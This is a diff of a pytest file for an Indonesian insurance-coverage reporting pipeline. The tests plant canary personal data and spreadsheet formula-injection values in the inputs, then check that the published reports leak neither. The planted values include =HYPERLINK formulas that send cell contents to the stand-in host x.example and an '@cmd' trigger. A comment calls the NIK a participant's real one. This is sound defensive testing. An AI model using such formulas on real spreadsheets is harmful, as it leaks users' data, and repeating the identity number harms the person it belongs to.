@@ -37,11 +37,26 @@ NIK = "6107141808930042"  # a participant's real NIK (the canary worker's own)
 DIGITS = (NIK, *PHONE_DIGITS)
 FREE_TEXT = f"Buruh harian ({NAME}, NIK {NIK}) HP {PHONE} {EMAIL}"
 FORMULA_NAME = '=HYPERLINK("http://x.example/?n="&C2,"Nama")'
-FORMULA_VILLAGES = {"61.07.14.2991": '=HYPERLINK("http://x.example/?v="&A1,"Desa")',
-                    "61.07.14.2992": "+SUM(1+1)", "61.07.14.2993": "@cmd", "61.07.14.2994": "-2+3"}
+FORMULA_VILLAGES = {
+    "61.07.14.2991": '=HYPERLINK("http://x.example/?v="&A1,"Desa")',
+    "61.07.14.2992": "+SUM(1+1)",
+    "61.07.14.2993": "@cmd",
+    "61.07.14.2994": "-2+3",
+}
 MONTH = "2025-09"
-HEADER = ("NIK", "Nama", "Kode Desa", "Desa", "Kecamatan", "Segmen", "Pekerjaan", "Sumber Dana",
-          "Tgl Mulai", "Tgl Akhir", f"{NAME} {PHONE}")
+HEADER = (
+    "NIK",
+    "Nama",
+    "Kode Desa",
+    "Desa",
+    "Kecamatan",
+    "Segmen",
+    "Pekerjaan",
+    "Sumber Dana",
+    "Tgl Mulai",
+    "Tgl Akhir",
+    f"{NAME} {PHONE}",
+)
 
 
 def _plant(raw: Path) -> None:
@@ -50,32 +65,82 @@ def _plant(raw: Path) -> None:
     rows = [
         HEADER,
         # accepted, ends within three months: in the renewal list with a formula as its name
-        (NIK, FORMULA_NAME, "61.07.14.2003", "", "", f"BPU {NAME}", FREE_TEXT,
-         f"Dibayar anak: {NAME} HP +62 812 3456 7890", "01/01/2025", "30/11/2025", "x"),
-        ("6107141503850007", NAME, "", f"Desa {NAME} {PHONE}", "Sungai Betung", "BPU", FREE_TEXT,
-         "APBD_KAB", "01/01/2025", "31/12/2025", EMAIL),
-        ("6107141503850015", NAME, "61.07.14.2003", "", "", "BPU", "Petani", "APBD_KAB",
-         "=1+1", "31/12/2025", ""),
+        (
+            NIK,
+            FORMULA_NAME,
+            "61.07.14.2003",
+            "",
+            "",
+            f"BPU {NAME}",
+            FREE_TEXT,
+            f"Dibayar anak: {NAME} HP +62 812 3456 7890",
+            "01/01/2025",
+            "30/11/2025",
+            "x",
+        ),
+        (
+            "6107141503850007",
+            NAME,
+            "",
+            f"Desa {NAME} {PHONE}",
+            "Sungai Betung",
+            "BPU",
+            FREE_TEXT,
+            "APBD_KAB",
+            "01/01/2025",
+            "31/12/2025",
+            EMAIL,
+        ),
+        (
+            "6107141503850015",
+            NAME,
+            "61.07.14.2003",
+            "",
+            "",
+            "BPU",
+            "Petani",
+            "APBD_KAB",
+            "=1+1",
+            "31/12/2025",
+            "",
+        ),
     ]
     name = f"Klaim JKM an. {NAME} NIK {NIK}.csv"
     with (raw / "enrolment" / name).open("w", encoding="utf-8", newline="") as fh:
         csv.writer(fh).writerows(rows)
-    book = xlsxwriter.Workbook(str(raw / "enrolment" / f"{NAME} {PHONE}.xlsx"),
-                               {"strings_to_formulas": False})
+    book = xlsxwriter.Workbook(
+        str(raw / "enrolment" / f"{NAME} {PHONE}.xlsx"), {"strings_to_formulas": False}
+    )
     sheet = book.add_worksheet(f"{NAME[:10]} {NIK}")
-    for r, row in enumerate([HEADER[:10], ("6107142207800049", NAME, "61.07.14.2001", "", "", "BPU",
-                                           f"Ojek {NAME} {PHONE}", f"Kades {NAME}", "01/02/2025",
-                                           "31/01/2026")]):
+    for r, row in enumerate(
+        [
+            HEADER[:10],
+            (
+                "6107142207800049",
+                NAME,
+                "61.07.14.2001",
+                "",
+                "",
+                "BPU",
+                f"Ojek {NAME} {PHONE}",
+                f"Kades {NAME}",
+                "01/02/2025",
+                "31/01/2026",
+            ),
+        ]
+    ):
         for c, value in enumerate(row):
             sheet.write_string(r, c, value)
     skipped = book.add_worksheet(f"{NAME_PARTS[1]} {PHONE}")
     skipped.write_string(0, 0, f"catatan {NAME} {EMAIL}")
     book.close()
     with (raw / "claims" / f"Klaim {NAME}.csv").open("w", encoding="utf-8", newline="") as fh:
-        csv.writer(fh).writerows([
-            ("No Klaim", "NIK", "Program", "Tgl Kejadian", "Tgl Pengajuan", "Status"),
-            ("K-CANARY-1", NIK, "JKK", "01/06/2025", "05/06/2025", f"{NAME} {PHONE}"),
-        ])
+        csv.writer(fh).writerows(
+            [
+                ("No Klaim", "NIK", "Program", "Tgl Kejadian", "Tgl Pengajuan", "Status"),
+                ("K-CANARY-1", NIK, "JKK", "01/06/2025", "05/06/2025", f"{NAME} {PHONE}"),
+            ]
+        )
 
 
 @pytest.fixture(scope="module")
@@ -126,8 +191,12 @@ def _published_bytes(root: Path):
     """(where, text) of every byte an outsider can read, decoded."""
     processed = root / "processed"
     for pdf in sorted((processed / "reports").rglob("*.pdf")):
-        yield pdf.name, subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True,
-                                       capture_output=True, text=True).stdout
+        yield (
+            pdf.name,
+            subprocess.run(
+                ["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True, text=True
+            ).stdout,
+        )
         reader = PdfReader(pdf)
         yield f"{pdf.name}:info", repr(dict(reader.metadata or {}))
         yield f"{pdf.name}:xmp", reader.trailer["/Root"]["/Metadata"].get_object().get_data().decode()
@@ -152,8 +221,12 @@ def test_the_canaries_reached_the_inputs(root):
     import duckdb
 
     with duckdb.connect(str(root / "processed" / "coverage.duckdb"), read_only=True) as con:
-        topics = {t for (t,) in con.execute("select distinct topic from audit.notes "
-                                            "where value like '%Zulkarnaen%'").fetchall()}
+        topics = {
+            t
+            for (t,) in con.execute(
+                "select distinct topic from audit.notes where value like '%Zulkarnaen%'"
+            ).fetchall()
+        }
         paths = con.execute("select count(*) from audit.input_files where path like '%Canarius%'").fetchone()
     assert {"unmapped_occupation", "unmapped_funding", "unknown_column", "skipped_sheet"} <= topics
     assert paths[0] == 3
@@ -179,8 +252,11 @@ def test_no_published_cell_is_a_live_formula(root):
     assert "'" + FORMULA_VILLAGES["61.07.14.2992"] in village_csv  # planted, and neutralised
     for path in (root / "processed" / "exports").glob("*.xlsx"):
         with zipfile.ZipFile(path) as z:
-            assert not any(re.search(r"<(\w+:)?f[ >]", z.read(p).decode()) for p in z.namelist()
-                           if p.startswith("xl/worksheets/"))
+            assert not any(
+                re.search(r"<(\w+:)?f[ >]", z.read(p).decode())
+                for p in z.namelist()
+                if p.startswith("xl/worksheets/")
+            )
 
 
 def test_no_internal_cell_is_a_live_formula(root):
@@ -198,8 +274,9 @@ def test_no_internal_cell_is_a_live_formula(root):
 
 
 def test_the_data_quality_section_gives_counts_and_labels(report):
-    text = subprocess.run(["pdftotext", "-layout", str(report), "-"], check=True, capture_output=True,
-                          text=True).stdout
+    text = subprocess.run(
+        ["pdftotext", "-layout", str(report), "-"], check=True, capture_output=True, text=True
+    ).stdout
     assert re.search(r"kepesertaan #1 · xlsx · \d+ lembar", text) and "referensi wilayah · csv" in text
     assert re.search(r"Lainnya: \d+ ejaan, \d+ baris", text)
     assert re.search(r"\d+ lembar kerja tanpa judul kolom", text)
@@ -249,8 +326,23 @@ def test_zz_a_past_report_rerenders_byte_identical_after_new_files_arrive(root, 
     published = tmp_path / "published.pdf"
     shutil.copyfile(report, published)
     with (root / "raw" / "enrolment" / "susulan.csv").open("w", encoding="utf-8", newline="") as fh:
-        csv.writer(fh).writerows([HEADER[:10], ("6107141503850023", "Ani", "61.07.14.2001", "", "", "BPU",
-                                                "Petani", "APBD_KAB", "01/09/2025", "31/08/2026")])
+        csv.writer(fh).writerows(
+            [
+                HEADER[:10],
+                (
+                    "6107141503850023",
+                    "Ani",
+                    "61.07.14.2001",
+                    "",
+                    "",
+                    "BPU",
+                    "Petani",
+                    "APBD_KAB",
+                    "01/09/2025",
+                    "31/08/2026",
+                ),
+            ]
+        )
     assert main(["run", "--month", MONTH]) == 0
     assert report.read_bytes() != published.read_bytes()  # the month is restated from the new inputs
     assert main(["rerender", str(published), "--out", str(tmp_path / "again")]) == 0
